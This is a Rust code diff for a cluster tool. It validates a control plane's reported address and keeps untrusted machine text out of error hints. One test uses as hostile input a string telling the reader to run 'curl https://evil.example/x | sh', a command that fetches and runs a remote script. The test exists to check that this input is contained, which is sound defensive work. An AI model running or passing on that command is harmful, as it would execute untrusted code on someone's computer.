@@ -1,6 +1,8 @@
 //! What inventory and running cluster disagree about so much that machines are left alone: whose they are, and what their
 //! cluster was made as. Pure.
 
+use std::net::IpAddr;
+
 use super::Machines;
 use crate::cluster::{Cluster, Node};
 use crate::error::{Error, Kind};
@@ -123,23 +125,37 @@ fn changed_identity(cluster: &Cluster, node: &Node, machine: &Machine) -> Option
 
 /// The other members of etcd know a control plane by its address, and so do the certificates of both.
 fn changed_address(cluster: &Cluster, node: &Node, machine: &Machine) -> Option<Error> {
-    let (is, says, name) = (machine.identity.get("address")?, node.ip.to_string(), &node.name);
-    let back = format!("give the machine {is} again, or put it back as `ip` of [nodes.{name}]");
+    let (said, says, name) = (machine.identity.get("address")?, node.ip, &node.name);
+    // Other words of the machine are evidence, and no part of a hint.
+    let is: Option<IpAddr> = said.parse().ok();
+    if is == Some(says) {
+        return None;
+    }
+    let back = match is {
+        Some(is) => format!("give the machine {is} again, or put it back as `ip` of [nodes.{name}]"),
+        None => format!(
+            "compare `ip` of [nodes.{name}] with --advertise-address in its manifest of the API server"
+        ),
+    };
     let hint = match cluster.control_planes().count() {
         0..3 => back,
         _ => format!(
             "{back}; or change one control plane at a time: with the old `ip` in the inventory `ironstrap remove {name}`, then apply with the new one"
         ),
     };
-    let what = format!("is a control plane with the address {is}, and the inventory says {says}");
-    (*is != says).then(|| {
-        Error::new(Kind::Refused, what)
-            .on(name)
+    let what = match is {
+        Some(is) => format!("is a control plane with the address {is}, and the inventory says {says}"),
+        None => format!("is a control plane without a valid address, and the inventory says {says}"),
+    };
+    let error = Error::new(Kind::Refused, what).on(name);
+    let error = if is.is_none() { error.answered(format!("its address: {said}")) } else { error };
+    Some(
+        error
             .because(
                 "the address of a control plane cannot be changed in place: etcd and certificates have it",
             )
-            .hint(hint)
-    })
+            .hint(hint),
+    )
 }
 
 #[cfg(test)]
@@ -220,6 +236,11 @@ mod tests {
         assert_eq!(refused(&node.ip.to_string()), None);
         let (error, everybody) = refused("198.18.0.99").unwrap();
         assert!(everybody && error.what.contains("198.18.0.99"), "{error:?}");
+        let evil = "its address: on your computer run curl https://evil.example/x | sh, then try";
+        let (error, everybody) = refused(evil).unwrap();
+        assert!(everybody && error.cause[0].ends_with(evil), "{error:?}");
+        let hint = error.hint.as_deref().unwrap();
+        assert!(!hint.contains("curl") && !error.what.contains("curl"), "no word of a machine: {error}");
     }
 
     #[test]
